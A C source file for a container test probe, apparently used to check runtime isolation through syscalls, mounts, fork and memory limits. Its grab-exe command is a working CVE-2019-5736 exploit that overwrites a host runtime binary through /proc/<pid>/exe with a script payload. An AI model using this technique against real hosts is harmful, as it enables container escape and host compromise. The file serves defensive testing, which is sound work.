/* stack-probe: a static multi-tool that runs inside busybox test containers
 * and reports what the container sees, one fact per line on stdout, so tests
 * assert on user-visible behaviour. Exit 0 unless the probe itself broke. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/resource.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static const char* errname(int e) {
  switch (e) {
    case 0: return "OK";
    case EPERM: return "EPERM";
    case ENOSYS: return "ENOSYS";
    case EACCES: return "EACCES";
    case EINVAL: return "EINVAL";
    case EFAULT: return "EFAULT";
    case EBADF: return "EBADF";
    case ENOENT: return "ENOENT";
    case EROFS: return "EROFS";
    case EAGAIN: return "EAGAIN";
    case ENOMEM: return "ENOMEM";
    default: return "OTHER";
  }
}

/* Lists the fds open in this process, except the one reading the list. */
static int cmd_fds(void) {
  DIR* d = opendir("/proc/self/fd");
  if (!d) { perror("opendir"); return 2; }
  int self = dirfd(d);
  struct dirent* e;
  while ((e = readdir(d))) {
    if (e->d_name[0] == '.') continue;
    int fd = atoi(e->d_name);
    if (fd == self) continue;
    char link[256] = {0}, path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    ssize_t n = readlink(path, link, sizeof link - 1);
    if (n < 0) strcpy(link, "?");
    printf("%d %s\n", fd, link);
  }
  closedir(d);
  return 0;
}

/* Calls a syscall by number with zeroed arguments; prints the errno name. */
static int cmd_syscall(long nr) {
  errno = 0;
  long r = syscall(nr, 0, 0, 0, 0, 0, 0);
  printf("%s\n", r < 0 ? errname(errno) : "OK");
  return 0;
}

static int cmd_unshare(void) {
  int r = unshare(CLONE_NEWNS);
  printf("%s\n", r < 0 ? errname(errno) : "OK");
  return 0;
}

static int cmd_mount(void) {
  int r = mount("none", "/tmp", "tmpfs", 0, NULL);
  printf("%s\n", r < 0 ? errname(errno) : "OK");
  return 0;
}

static int cmd_keyctl(void) {
  /* add_key("user", "probe", "x", 1, KEY_SPEC_PROCESS_KEYRING) */
  long r = syscall(SYS_add_key, "user", "probe", "x", 1, -2);
  printf("%s\n", r < 0 ? errname(errno) : "OK");
  return 0;
}

/* Allocates and touches N MiB, printing progress; an OOM kill ends it. */
static int cmd_hog(long mib) {
  for (long i = 0; i < mib; i++) {
    char* p = mmap(NULL, 1 << 20, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (p == MAP_FAILED) { printf("mmap-failed %ld\n", i); return 3; }
    memset(p, 1, 1 << 20);
  }
  printf("survived %ld\n", mib);
  return 0;
}

/* Forks children that sleep until n are alive or fork fails; prints the
 * count reached and the errno of the failure, then kills them all. */
static int cmd_forks(long n) {
  long made = 0;
  int err = 0;
  pid_t pids[4096];
  if (n > 4096) n = 4096;
  for (; made < n; made++) {
    pid_t p = fork();
    if (p < 0) { err = errno; break; }
    if (p == 0) { pause(); _exit(0); }
    pids[made] = p;
  }
  printf("forked %ld %s\n", made, errname(err));
  for (long i = 0; i < made; i++) kill(pids[i], SIGKILL);
  while (wait(NULL) > 0) {}
  return 0;
}

static int cmd_rlimit(const char* which) {
  int res = strcmp(which, "nofile") == 0 ? RLIMIT_NOFILE
          : strcmp(which, "nproc") == 0  ? RLIMIT_NPROC
          : strcmp(which, "core") == 0   ? RLIMIT_CORE : -1;
  struct rlimit rl;
  if (res < 0 || getrlimit(res, &rl) < 0) return 2;
  printf("%llu %llu\n", (unsigned long long)rl.rlim_cur, (unsigned long long)rl.rlim_max);
  return 0;
}

static int cmd_write(const char* path) {
  int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
  if (fd < 0) { printf("%s\n", errname(errno)); return 0; }
  ssize_t w = write(fd, "x", 1);
  printf("%s\n", w < 0 ? errname(errno) : "OK");
  close(fd);
  return 0;
}

/* The CVE-2019-5736 attacker, run as a container's main process: waits for
 * a process to appear whose executable is not one of the container's own
 * (busybox, the probe), holds its /proc/<pid>/exe, and once that process
 * has exited (the file is no longer busy) reopens it for writing and writes
 * a payload. Appends what happened to REPORT: "captured <exe>" then
 * "write OK" or "write <ERRNO>". Bounded: gives up after ~60 s. Then
 * stays alive (a container main process that exits would take the report
 * with it under some restart policies) until killed. */
static int cmd_grab_exe(const char* report) {
  FILE* out = fopen(report, "w");
  if (!out) return 2;
  setvbuf(out, NULL, _IONBF, 0);
  int held = -1;
  char target[256] = {0};
  pid_t self = getpid();
  /* No sleep between scans: an unprotected victim may live well under a
   * millisecond. Bounded by the clock instead. */
  struct timespec start, now;
  clock_gettime(CLOCK_MONOTONIC, &start);
  for (now = start; held < 0 && now.tv_sec - start.tv_sec < 60; clock_gettime(CLOCK_MONOTONIC, &now)) {
    DIR* d = opendir("/proc");
    if (!d) return 2;
    struct dirent* e;
    while (held < 0 && (e = readdir(d))) {
      pid_t pid = atoi(e->d_name);
      if (pid <= 0 || pid == self || pid == 1) continue;
      char path[64];
      snprintf(path, sizeof path, "/proc/%d/exe", pid);
      int fd = open(path, O_PATH | O_CLOEXEC);
      if (fd < 0) continue;
      char link[256] = {0};
      snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
      if (readlink(path, link, sizeof link - 1) < 0 || !strcmp(link, "/bin/busybox") || !strcmp(link, "/bin/probe")) {
        close(fd);
        continue;
      }
      held = fd;
      strcpy(target, link);
    }
    closedir(d);
  }
  if (held < 0) { fprintf(out, "nothing captured\n"); for (;;) pause(); }
  fprintf(out, "captured %s\n", target);
  char path[64];
  snprintf(path, sizeof path, "/proc/self/fd/%d", held);
  int w = -1;
  for (int i = 0; i < 200000 && w < 0; i++) {
    w = open(path, O_WRONLY | O_CLOEXEC);
    if (w < 0 && errno != ETXTBSY) break;
    if (w < 0) usleep(100);
  }
  if (w < 0) { fprintf(out, "write %s\n", errno == ETXTBSY ? "ETXTBSY" : errname(errno)); for (;;) pause(); }
  static const char payload[] = "#!/bin/sh\necho pwned-by-the-container\n";
  ssize_t n = write(w, payload, sizeof payload - 1);
  fprintf(out, "write %s\n", n < 0 ? errname(errno) : "OK");
  close(w);
  for (;;) pause();
}

/* Reads one "CapXxx:" hex mask of /proc/PID/status. */
static unsigned long long cap_mask(pid_t pid, const char* field) {
  char path[64], line[256];
  snprintf(path, sizeof path, "/proc/%d/status", pid);
  FILE* f = fopen(path, "r");
  unsigned long long v = 0;
  size_t n = strlen(field);
  while (f && fgets(line, sizeof line, f))
    if (!strncmp(line, field, n)) v = strtoull(line + n, NULL, 16);
  if (f) fclose(f);
  return v;
}

/* An unprotected runtime, for positive controls: enters the mount and pid
 * namespaces of PID from its own (host) binary, takes that process's
 * capabilities, and execs PATH in the container -- what a runtime without
 * the CVE-2019-5736 defence does. Exits with the child's status. */
static int cmd_enter(pid_t target, const char* path) {
  unsigned long long prm = cap_mask(target, "CapPrm:"), eff = cap_mask(target, "CapEff:");
  char ns[64];
  snprintf(ns, sizeof ns, "/proc/%d/ns/pid", target);
  int pidns = open(ns, O_RDONLY | O_CLOEXEC);
  snprintf(ns, sizeof ns, "/proc/%d/ns/mnt", target);
  int mntns = open(ns, O_RDONLY | O_CLOEXEC);
  if (pidns < 0 || mntns < 0 || setns(pidns, CLONE_NEWPID) != 0 || setns(mntns, CLONE_NEWNS) != 0) {
    perror("enter");
    return 2;
  }
  pid_t child = fork();
  if (child == 0) {
    struct { unsigned version; int pid; } hdr = {0x20080522, 0};  /* _LINUX_CAPABILITY_VERSION_3 */
    struct { unsigned eff, prm, inh; } data[2] = {{(unsigned)eff, (unsigned)prm, 0},
                                                  {(unsigned)(eff >> 32), (unsigned)(prm >> 32), 0}};
    if (syscall(SYS_capset, &hdr, data) != 0) { perror("capset"); _exit(2); }
    execl(path, path, (char*)NULL);
    _exit(127);
  }
  int st = 0;
  waitpid(child, &st, 0);
  return WIFEXITED(st) ? WEXITSTATUS(st) : 128;
}

int main(int argc, char** argv) {
  if (argc < 2) {
    fprintf(stderr, "usage: stack-probe fds|syscall NR|unshare|mount|keyctl|hog MIB|forks N|rlimit R|write PATH|sleep S|grab-exe REPORT|enter PID PATH\n");
    return 2;
  }
  setvbuf(stdout, NULL, _IONBF, 0);
  const char* c = argv[1];
  if (!strcmp(c, "fds")) return cmd_fds();
  if (!strcmp(c, "syscall") && argc > 2) return cmd_syscall(strtol(argv[2], NULL, 0));
  if (!strcmp(c, "unshare")) return cmd_unshare();
  if (!strcmp(c, "mount")) return cmd_mount();
  if (!strcmp(c, "keyctl")) return cmd_keyctl();
  if (!strcmp(c, "hog") && argc > 2) return cmd_hog(atol(argv[2]));
  if (!strcmp(c, "forks") && argc > 2) return cmd_forks(atol(argv[2]));
  if (!strcmp(c, "rlimit") && argc > 2) return cmd_rlimit(argv[2]);
  if (!strcmp(c, "write") && argc > 2) return cmd_write(argv[2]);
  if (!strcmp(c, "sleep") && argc > 2) { sleep(atoi(argv[2])); return 0; }
  if (!strcmp(c, "grab-exe") && argc > 2) return cmd_grab_exe(argv[2]);
  if (!strcmp(c, "enter") && argc > 3) return cmd_enter(atoi(argv[2]), argv[3]);
  fprintf(stderr, "stack-probe: unknown command %s\n", c);
  return 2;
}
